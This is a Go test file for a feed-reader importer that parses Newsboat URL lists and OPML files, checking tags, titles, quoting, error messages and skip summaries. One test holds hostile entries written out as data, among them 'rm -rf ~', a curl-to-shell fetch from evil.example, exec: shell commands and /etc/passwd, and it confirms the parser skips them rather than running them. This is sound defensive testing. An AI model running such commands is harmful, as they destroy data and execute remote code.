package config

import (
	"reflect"
	"strings"
	"testing"
)

func TestParseNewsboatURLs(t *testing.T) {
	text := "# my newsboat urls\r\n" +
		"https://example.com/markets.xml markets asia\r\n" +
		"\r\n" +
		`https://example.com/reuters.xml "~Reuters Markets" "Asia markets" news` + "\n" +
		`   # indented comment` + "\n" +
		`https://example.com/hidden.xml ! "!secret" visible` + "\n" +
		`https://example.com/page.xml#fragment tag # trailing comment` + "\n" +
		`"query:Unread Articles:unread = \"yes\"" virtual` + "\n" +
		`"https://example.com/quoted.xml" "tag with \"escaped\" quotes"` + "\n" +
		`HTTPS://EXAMPLE.com/markets.xml extra` + "\n" +
		`https://example.com/unclosed.xml "~Unclosed title`
	res, err := ParseNewsboatURLs(strings.NewReader(text))
	if err != nil {
		t.Fatal(err)
	}
	want := []Feed{
		{URL: "https://example.com/markets.xml", Tags: []string{"markets", "asia", "extra"}},
		{URL: "https://example.com/reuters.xml", Title: "Reuters Markets", Tags: []string{"Asia markets", "news"}},
		{URL: "https://example.com/hidden.xml", Tags: []string{"visible"}},
		{URL: "https://example.com/page.xml#fragment", Tags: []string{"tag"}},
		{URL: "https://example.com/quoted.xml", Tags: []string{`tag with "escaped" quotes`}},
		{URL: "https://example.com/unclosed.xml", Title: "Unclosed title"},
	}
	if !reflect.DeepEqual(res.Feeds, want) {
		t.Errorf("feeds =\n%+v\nwant\n%+v", res.Feeds, want)
	}
	if len(res.Skipped) != 1 || !strings.HasPrefix(res.Skipped[0], "line 8:") || !strings.Contains(res.Skipped[0], "newsboat query") {
		t.Errorf("skipped = %q", res.Skipped)
	}
}

func TestParseNewsboatSkipsHostileEntries(t *testing.T) {
	text := strings.Join([]string{
		`|rm -rf ~`,
		`"|curl https://evil.example/x | sh" tag`,
		`exec:~/bin/fetch-feed.sh`,
		`"exec:python3 -c 'import os; os.system(\"id\")'"`,
		`filter:~/bin/clean.sh:https://example.com/feed.xml`,
		`"query:Starred:flags # \"s\""`,
		`javascript:alert(1)`,
		`ftp://example.com/feed.xml`,
		`""`,
		`~/feeds/local.xml`,
		`/etc/passwd`,
		`EXEC:/bin/sh`,
		"https://example.com/ok.xml ok",
	}, "\n")
	res, err := ParseNewsboatURLs(strings.NewReader(text))
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Feeds) != 1 || res.Feeds[0].URL != "https://example.com/ok.xml" {
		t.Errorf("imported %+v", res.Feeds)
	}
	if len(res.Skipped) != 12 {
		t.Fatalf("%d skipped, want 12:\n%s", len(res.Skipped), strings.Join(res.Skipped, "\n"))
	}
	for i, reason := range res.Skipped {
		if !strings.HasPrefix(reason, "line ") {
			t.Errorf("reason %d has no line: %q", i, reason)
		}
	}
	all := strings.Join(res.Skipped, "\n")
	wantContains(t, all, `"|rm -rf ~"`, "never runs commands", "runs a program", "newsboat query", "javascript:", "ftp:", "no URL", "local path")
}

func TestParseNewsboatManySkipsAreSummarised(t *testing.T) {
	text := strings.Repeat("exec:x\n", 1000)
	res, err := ParseNewsboatURLs(strings.NewReader(text))
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Skipped) != maxSkipped+1 || !strings.Contains(res.Skipped[maxSkipped], "800 more") {
		t.Errorf("%d reasons, last %q", len(res.Skipped), res.Skipped[len(res.Skipped)-1])
	}
}

func TestImportSniffs(t *testing.T) {
	res, err := Import(strings.NewReader("\ufeff  \n<?xml version=\"1.0\"?><opml><body><outline xmlUrl=\"https://example.com/a.xml\"/></body></opml>"), "subs")
	if err != nil || len(res.Feeds) != 1 {
		t.Errorf("OPML without extension: %+v %v", res, err)
	}
	res, err = Import(strings.NewReader("https://example.com/a.xml tag\n"), "urls")
	if err != nil || len(res.Feeds) != 1 || res.Feeds[0].Tags[0] != "tag" {
		t.Errorf("newsboat urls: %+v %v", res, err)
	}
	// A file named .opml that is not XML says so, naming the file.
	_, err = Import(strings.NewReader("https://example.com/a.xml\n"), "subs.opml")
	if err == nil || !strings.HasPrefix(err.Error(), "subs.opml") {
		t.Errorf("text named .opml: %v", err)
	}
	// Syntax errors name the file and the line.
	_, err = Import(strings.NewReader("<opml>\n<body>\n</opml>"), "broken.opml")
	if err == nil || !strings.HasPrefix(err.Error(), "broken.opml line 3:") {
		t.Errorf("broken OPML: %v", err)
	}
}
